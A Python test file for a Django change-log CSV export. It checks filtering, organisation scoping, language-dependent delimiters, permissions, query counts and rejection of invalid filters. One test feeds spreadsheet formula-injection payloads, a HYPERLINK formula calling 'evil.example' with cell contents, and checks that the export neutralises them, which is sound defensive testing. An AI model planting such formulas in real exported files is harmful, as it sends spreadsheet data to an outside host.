"""The change feed as CSV: the same filters as the page, only the organisation's
own entries, in the reader's language, in a constant number of queries."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from stuurwiel.changelog.choices import ChangeSource
from stuurwiel.changelog.context import change_context
from stuurwiel.parties import services
from stuurwiel.parties.models import Team

pytestmark = pytest.mark.django_db

EXPORT = reverse("changelog:feed_export", kwargs={"org": "alfa"})


def _rows(response, delimiter):
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_export_holds_the_filtered_entries_of_the_own_organisation(client_a, org_a, org_b, admin_a):
    team = services.team_create(organisation=org_a, by=admin_a, data={"name": "Team Wmo"})
    services.team_update(
        instance=team, by=admin_a, data={"name": "Team Wmo-loket"}, version=1, reason="Loket erbij"
    )
    Team.objects.create(organisation=org_b, name="Team Geheim")
    response = client_a.get(EXPORT, {"action": "update"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = _rows(response, ";")
    assert header[:4] == ["Wanneer", "Wie", "Bron", "Actie"]
    assert len(rows) == 1
    [row] = rows
    assert row[1] == "admin-a" and row[3] == "Bijgewerkt" and row[7] == "Loket erbij"
    assert row[8] == "Naam: Team Wmo" and row[9] == "Naam: Team Wmo-loket"


def test_export_in_english_uses_commas(client_a, org_a, admin_a):
    services.team_create(organisation=org_a, by=admin_a, data={"name": "Team Wmo"})
    header, row = _rows(client_a.get(EXPORT, HTTP_ACCEPT_LANGUAGE="en"), ",")
    assert header[0] == "When" and row[3] == "Created"


def test_export_needs_the_change_log_permission(client, org_a, make_member):
    from stuurwiel.organisations.choices import Role

    client.force_login(make_member(org_a, Role.OPERATOR))
    assert client.get(EXPORT).status_code == 403


def test_export_query_count_does_not_grow(client_a, org_a, admin_a):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            b"".join(client_a.get(EXPORT).streaming_content)
        return len(captured)

    services.team_create(organisation=org_a, by=admin_a, data={"name": "Team 0"})
    queries()
    few = queries()
    for n in range(1, 30):
        services.team_create(organisation=org_a, by=admin_a, data={"name": f"Team {n}"})
    assert queries() == few


def test_export_with_an_invalid_filter_is_refused_not_widened(client_a, org_a, admin_a):
    services.team_create(organisation=org_a, by=admin_a, data={"name": "Team Wmo"})
    response = client_a.get(EXPORT, {"since": "gisteren"})
    assert response.status_code == 400
    assert "filters zijn niet geldig" in response.content.decode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_neutralises_cells_that_a_spreadsheet_would_run(client_a, org_a, admin_a, start):
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"klik")'
    with change_context(source=ChangeSource.JOB, actor_name=f"{start}Import"):
        services.team_create(organisation=org_a, by=None, data={"name": name}, reason=f"{start}1+1")
    header, row = _rows(client_a.get(EXPORT), ";")
    assert row[1] == f"'{start}Import (taak)"
    assert row[6] == f"'{name}"
    assert row[7] == f"'{start}1+1"
    assert row[9] == f"Naam: {name}"  # the label leads, so the value cannot start a formula
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_export_before_and_after_are_readable_text(client_a, org_a, admin_a):
    person = services.person_create(organisation=org_a, by=admin_a, data={"name": "Piet Jansen"})
    team = services.team_create(organisation=org_a, by=admin_a, data={"name": "Team Wmo"})
    services.team_update(instance=team, by=admin_a, data={"coordinator": person}, version=1)
    _header, row, *_ = _rows(client_a.get(EXPORT, {"action": "update"}), ";")
    assert row[8] == "Teamcoördinator: —" and row[9] == "Teamcoördinator: Piet Jansen"
